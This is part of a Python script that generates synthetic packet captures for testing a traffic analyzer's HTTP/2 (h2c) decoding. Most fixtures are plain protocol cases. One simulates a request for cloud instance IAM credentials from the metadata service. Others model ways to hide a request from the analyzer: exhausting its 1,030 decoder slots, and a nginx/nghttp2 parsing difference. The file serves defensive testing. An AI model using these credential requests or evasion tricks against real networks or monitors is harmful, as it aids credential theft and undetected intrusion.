    settings_c = frame(4, 0, 0, struct.pack("!HI", 2, 0) + struct.pack("!HI", 4, 4194304))
    settings_s = frame(4, 0, 0, struct.pack("!HI", 3, 100) + struct.pack("!HI", 1, 4096))
    ack = frame(4, 1, 0, b"")

    clk = Clock(BASE_US + 9000 * 1000000)
    recs = []

    # the metadata service over h2c, two requests on one connection
    ce, se = Encoder(), Encoder()
    c = TcpConn(clk, CLIENT4, "169.254.169.254", 43000, 80, 7000, 9000, smac=MAC_GW)
    recs += c.handshake()
    h1 = ce.encode([(":method", "GET"), (":scheme", "http"), (":authority", "169.254.169.254"),
                    (":path", "/latest/meta-data/"), ("user-agent", "curl/7.88.1"),
                    ("accept", "*/*")])
    recs.append(c.c_send(preface + settings_c + frame(8, 0, 0, struct.pack("!I", 1 << 20)) +
                         frame(1, 0x05, 1, h1), step=300))
    recs.append(c.s_send(settings_s + ack, step=400))
    recs.append(c.c_send(ack, step=100))
    r1 = se.encode([(":status", "200"), ("server", "EC2ws"), ("content-length", "12")])
    recs.append(c.s_send(frame(1, 0x04, 1, r1) + frame(0, 0x01, 1, b"iam/\nami-id\n"), step=400))
    h3 = frame(1, 0x05, 3, ce.encode([
        (":method", "GET"), (":scheme", "http"), (":authority", "169.254.169.254"),
        (":path", "/latest/meta-data/iam/security-credentials/"),
        ("user-agent", "curl/7.88.1"), ("accept", "*/*")]))
    recs.append(c.c_send(h3[:7], step=300))
    recs.append(c.c_send(h3[7:], step=100))
    r3 = se.encode([(":status", "200"), ("server", "EC2ws"), ("content-length", "8")])
    recs.append(c.s_send(frame(1, 0x04, 3, r3) + frame(0, 0x01, 3, b"ec2-role"), step=400))
    recs.append(c.c_send(frame(7, 0, 0, struct.pack("!II", 3, 0)), step=300))
    recs += c.close()

    # a gRPC call: PADDED and PRIORITY, the block continued, trailers
    ce, se = Encoder(), Encoder()
    c = TcpConn(clk, CLIENT4, "10.99.0.80", 43002, 50051, 17000, 19000, smac=MAC_GW)
    recs += c.handshake()
    blk = ce.encode([(":method", "POST"), (":scheme", "http"),
                     (":path", "/helloworld.Greeter/SayHello"),
                     (":authority", "grpc.example.test:50051"), ("te", "trailers"),
                     ("content-type", "application/grpc"),
                     ("user-agent", "grpc-python/1.51.1 grpc-c/29.0.0 (linux; chttp2)")])
    pad = 6
    headers = frame(1, 0x08 | 0x20, 1, bytes([pad]) + struct.pack("!IB", 0, 15) +
                    blk[:10] + bytes(pad))
    cont = frame(9, 0x04, 1, blk[10:])
    msg = b"\x00" + struct.pack("!I", 7) + b"\x0a\x05world"
    recs.append(c.c_send(preface + settings_c + headers, step=300))
    recs.append(c.c_send(cont + frame(0, 0x01, 1, msg), step=100))
    recs.append(c.s_send(settings_s + ack, step=400))
    recs.append(c.c_send(ack, step=100))
    reply = b"\x00" + struct.pack("!I", 13) + b"\x0a\x0bHello world"
    recs.append(c.s_send(frame(1, 0x04, 1, se.encode([(":status", "200"),
                                                      ("content-type", "application/grpc")])) +
                         frame(0, 0, 1, reply) +
                         frame(1, 0x05, 1, se.encode([("grpc-status", "0"),
                                                      ("grpc-message", "")])), step=500))
    recs += c.close()
    write_pcap(os.path.join(out, "h2c_prior.pcap"), LINKTYPE_ETHERNET, recs)


def gen_h2c_review_slots(out):
    """More h2c connections than the analyzer's 1,024 inflater slots (the
    review's finding F9, made smaller than its nginx capture): a live
    connection makes a request, then 1,030 connections each send only the
    preface (one segment, seen mid-stream: no handshake, to keep the file
    small), then the live one makes a second request. The slots of flows
    that never began a header block are given up first, so the second
    request and its response are read. Raw IPv4 link type, HPACK by hand
    (static-table indexes and literals)."""
    def frame(ftype, flags, sid, payload):
        return struct.pack("!I", len(payload))[1:] + bytes([ftype, flags]) + \
            struct.pack("!I", sid) + payload

    def lit(idx, value):  # literal without indexing, name from the static table
        return bytes([idx]) + bytes([len(value)]) + value

    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    settings = frame(4, 0, 0, b"")
    ack = frame(4, 1, 0, b"")
    clk = Clock(BASE_US + 9100 * 1000000)
    recs = []
    c = TcpConn(clk, CLIENT4, "10.99.0.80", 44000, 82, 27000, 29000, smac=MAC_GW)
    recs += c.handshake()
    req1 = b"\x82\x86" + lit(1, b"www.decoy.test") + lit(4, b"/h2-first")
    recs.append(c.c_send(preface + settings + frame(1, 0x05, 1, req1), step=300))
    recs.append(c.s_send(settings + ack + frame(1, 0x04, 1, b"\x88") +
                         frame(0, 0x01, 1, b"first"), step=400))
    recs.append(c.c_send(ack, step=100))
    for i in range(1030):
        o = TcpConn(clk, CLIENT4, "10.99.0.80", 45000 + i, 82, 100000 * i, 0, smac=MAC_GW)
        recs.append(o.c_send(preface, step=500))
    req2 = b"\x82\x86" + lit(1, b"www.hidden.test") + lit(4, b"/h2-after-evict")
    recs.append(c.c_send(frame(1, 0x05, 3, req2), step=300))
    recs.append(c.s_send(frame(1, 0x04, 3, b"\x88") + frame(0, 0x01, 3, b"second"), step=400))
    recs += c.close()
    recs = [(t, b[14:]) for t, b in recs]  # raw IPv4: no Ethernet header
    write_pcap(os.path.join(out, "h2c_review_slots.pcap"), LINKTYPE_RAW, recs)


def h2_frame(ftype, flags, sid, payload):
    return struct.pack("!I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack("!I", sid) + payload


def hp_lit(idx, value):
    """An HPACK literal without indexing, its name static-table entry idx
    (< 15), its value raw (< 127 bytes)."""
    return bytes([idx, len(value)]) + value


H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def gen_h2c_midblock_size_update(out):
    """Review F8: a dynamic table size update in the middle of a header
    block, which nginx (ngx_http_v2_state_header_block) takes and applies in
    place and nghttp2 refuses (RFC 7541 4.2). Stream 1's block is :method
    GET, an update to 4096 (3f e1 1f), :scheme http, :authority
    www.hidden.test, :path /h2-tsu-first; stream 3 is a plain request on
    the same connection. nginx serves both; the responses are nginx's
    (its first block opens with an update to 0)."""
    settings = h2_frame(4, 0, 0, b"")
    ack = h2_frame(4, 1, 0, b"")
    clk = Clock(BASE_US + 9200 * 1000000)
    c = TcpConn(clk, CLIENT4, "10.99.0.80", 44100, 82, 31000, 33000, smac=MAC_GW)
    recs = c.handshake()
    req1 = b"\x82\x3f\xe1\x1f\x86" + hp_lit(1, b"www.hidden.test") + hp_lit(4, b"/h2-tsu-first")
    recs.append(c.c_send(H2_PREFACE + settings + h2_frame(1, 0x05, 1, req1), step=300))
    recs.append(c.s_send(settings + ack + h2_frame(1, 0x04, 1, b"\x20\x88\x76\x05nginx") +
                         h2_frame(0, 0x01, 1, b"first"), step=400))
    recs.append(c.c_send(ack, step=100))
    req2 = b"\x82\x86" + hp_lit(1, b"www.hidden.test") + hp_lit(4, b"/h2-after-tsu")
    recs.append(c.c_send(h2_frame(1, 0x05, 3, req2), step=300))
    recs.append(c.s_send(h2_frame(1, 0x04, 3, b"\x88") + h2_frame(0, 0x01, 3, b"second"),
                         step=400))
    recs += c.close()
    write_pcap(os.path.join(out, "h2c_midblock_size_update.pcap"), LINKTYPE_ETHERNET, recs)


def gen_h2c_push_promise(out):
    """A server push (RFC 9113 8.4, nginx 1.22's http2_push): the client asks
    for / on stream 1; the server's PUSH_PROMISE on stream 1 (continued by a
    CONTINUATION) promises stream 2 for GET www.push.test /pushed.js, its
    block adding "server: nginx" to the server's dynamic table (index 62);
    then the response to stream 1, and the pushed response on stream 2
    whose server field is that entry. The promised request is reported as a
    request (from the client's side) and the pushed response pairs with
    it."""
    settings = h2_frame(4, 0, 0, b"")
    ack = h2_frame(4, 1, 0, b"")
    clk = Clock(BASE_US + 9300 * 1000000)
    c = TcpConn(clk, CLIENT4, "10.99.0.80", 44200, 82, 41000, 43000, smac=MAC_GW)
    recs = c.handshake()
    req1 = b"\x82\x86\x84" + hp_lit(1, b"www.push.test")
    recs.append(c.c_send(H2_PREFACE + settings + h2_frame(1, 0x05, 1, req1), step=300))
    promise = b"\x00\x00\x00\x02" + b"\x82\x86" + hp_lit(1, b"www.push.test")
    cont = hp_lit(4, b"/pushed.js") + b"\x76\x05nginx"
    recs.append(c.s_send(settings + ack + h2_frame(5, 0x00, 1, promise) +
                         h2_frame(9, 0x04, 1, cont) +
                         h2_frame(1, 0x04, 1, b"\x88\xbe") + h2_frame(0, 0x01, 1, b"<html>"),
                         step=400))
    recs.append(c.c_send(ack, step=100))
    recs.append(c.s_send(h2_frame(1, 0x04, 2, b"\x88\xbe") + h2_frame(0, 0x01, 2, b"alert(1)"),
                         step=400))
    recs += c.close()
    write_pcap(os.path.join(out, "h2c_push_promise.pcap"), LINKTYPE_ETHERNET, recs)


def gen_h2c_upgrade_settings(out):
    """An HTTP/1.1 "Upgrade: h2c" whose HTTP2-Settings (RFC 7540 3.2.1, the
    client's SETTINGS, acknowledged by the 101) say SETTINGS_HEADER_TABLE_SIZE
    8192 and SETTINGS_MAX_FRAME_SIZE 20000 (with MAX_CONCURRENT_STREAMS 100
    and ENABLE_PUSH 0, as curl sends them). The server's response to the
    upgraded request opens with a table size update to 8192 and adds
    "server: h2srv" to its table; the client sends its preface; the
    response's body is one 20,000-byte DATA frame (in MSS segments); then a
    request on stream 3 for www.hidden.test, whose response names the
    server's entry."""
    settings = h2_frame(4, 0, 0, b"")
    ack = h2_frame(4, 1, 0, b"")
    b64 = base64.urlsafe_b64encode(bytes.fromhex(
        "000300000064" "000100002000" "000200000000" "000500004e20")).rstrip(b"=")
    clk = Clock(BASE_US + 9400 * 1000000)
    c = TcpConn(clk, CLIENT4, "10.99.0.80", 44300, 80, 51000, 53000, smac=MAC_GW)
    recs = c.handshake()
    recs.append(c.c_send(b"GET /up HTTP/1.1\r\nHost: www.up.test\r\n"
                         b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                         b"HTTP2-Settings: " + b64 + b"\r\nUser-Agent: curl/7.88.1\r\n\r\n",
                         step=300))
    resp1 = b"\x3f\xe1\x3f" + b"\x88\x76\x05h2srv"  # update to 8192, 200, server
    recs.append(c.s_send(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\n"
                         b"Upgrade: h2c\r\n\r\n" + settings + h2_frame(1, 0x04, 1, resp1),
                         step=400))
    recs.append(c.c_send(H2_PREFACE + settings + ack, step=300))
    data = struct.pack("!I", 20000)[1:] + bytes([0, 0x01]) + struct.pack("!I", 1) + b"x" * 20000
    for i in range(0, len(data), 1448):
        recs.append(c.s_send(data[i:i + 1448], step=200))
    recs.append(c.c_ack())
    req3 = b"\x82\x86" + hp_lit(1, b"www.hidden.test") + hp_lit(4, b"/after-upgrade")
    recs.append(c.c_send(h2_frame(1, 0x05, 3, req3), step=300))
    recs.append(c.s_send(ack + h2_frame(1, 0x04, 3, b"\x88\xbe") + h2_frame(0, 0x01, 3, b"ok"),
                         step=400))
    recs += c.close()
    write_pcap(os.path.join(out, "h2c_upgrade_settings.pcap"), LINKTYPE_ETHERNET, recs)


def gen_h2c_upgrade_late_preface(out):
    """An "Upgrade: h2c" (HTTP2-Settings as curl sends them, nothing that
    changes decoding) whose server, after the 101, sends its SETTINGS and
    the whole response to the upgraded request, 40 KB of DATA, before the
    client's preface arrives; then a request on stream 3 for
    www.hidden.test and its response. The server's direction fills its
    16 KiB window, unclaimed, before the preface comes: it is kept for h2c
    (http.c read part of it), not released as a window no analyzer will
    read, so the response head at its start is read (before, nothing of
    the server's side was); what came past the window is lost, and with it
    the answer on stream 3."""
    settings = h2_frame(4, 0, 0, b"")
    ack = h2_frame(4, 1, 0, b"")
    b64 = base64.urlsafe_b64encode(bytes.fromhex("000300000064" "000200000000")).rstrip(b"=")
    clk = Clock(BASE_US + 9500 * 1000000)
    c = TcpConn(clk, CLIENT4, "10.99.0.80", 44301, 80, 61000, 63000, smac=MAC_GW)
    recs = c.handshake()
    recs.append(c.c_send(b"GET /big HTTP/1.1\r\nHost: www.up.test\r\n"
                         b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                         b"HTTP2-Settings: " + b64 + b"\r\nUser-Agent: curl/7.88.1\r\n\r\n",
                         step=300))
    resp1 = b"\x88\x76\x05h2srv"  # 200, server: h2srv (into the table)
    head = (b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\n"
            b"Upgrade: h2c\r\n\r\n" + settings + h2_frame(1, 0x04, 1, resp1))
    data = b""
    for k in range(3):  # three DATA frames of 14,000 bytes, the last ending the stream
        data += struct.pack("!I", 14000)[1:] + bytes([0, 0x01 if k == 2 else 0]) + \
            struct.pack("!I", 1) + b"y" * 14000
    server = head + data
    for i in range(0, len(server), 1448):
        recs.append(c.s_send(server[i:i + 1448], step=200))
    recs.append(c.c_send(H2_PREFACE + settings + ack, step=300))
    req3 = b"\x82\x86" + hp_lit(1, b"www.hidden.test") + hp_lit(4, b"/after-late-preface")
    recs.append(c.c_send(h2_frame(1, 0x05, 3, req3), step=300))
    recs.append(c.s_send(ack + h2_frame(1, 0x04, 3, b"\x88\xbe") + h2_frame(0, 0x01, 3, b"ok"),
                         step=400))
    recs += c.close()
    write_pcap(os.path.join(out, "h2c_upgrade_late_preface.pcap"), LINKTYPE_ETHERNET, recs)


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
    os.makedirs(out, exist_ok=True)
    gen_dns_basic(out)
    gen_dns_tcp(out)
    gen_dns_tcp_long(out)
    gen_dns_axfr(out)
    gen_http_keepalive(out)
    gen_http_unfinished(out)
    gen_http_unfinished_response(out)
    gen_ooo_many(out)
    gen_icmp_slow(out)
    gen_dns_malformed(out)
    gen_links(out)
    gen_dns_ipv6(out)
    gen_ip_frag(out)
    gen_ether_padding(out)
    gen_demo(out)
    gen_egress_paths(out)
    gen_tcp_decoys(out)
    gen_proxyproto(out)
    gen_dns_proxyproto(out)
    gen_h2c_prior(out)
    gen_h2c_review_slots(out)
    gen_h2c_midblock_size_update(out)
    gen_h2c_push_promise(out)
    gen_h2c_upgrade_settings(out)
    gen_h2c_upgrade_late_preface(out)
    gen_tls_big(out)
    gen_tls_hrr_big(out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
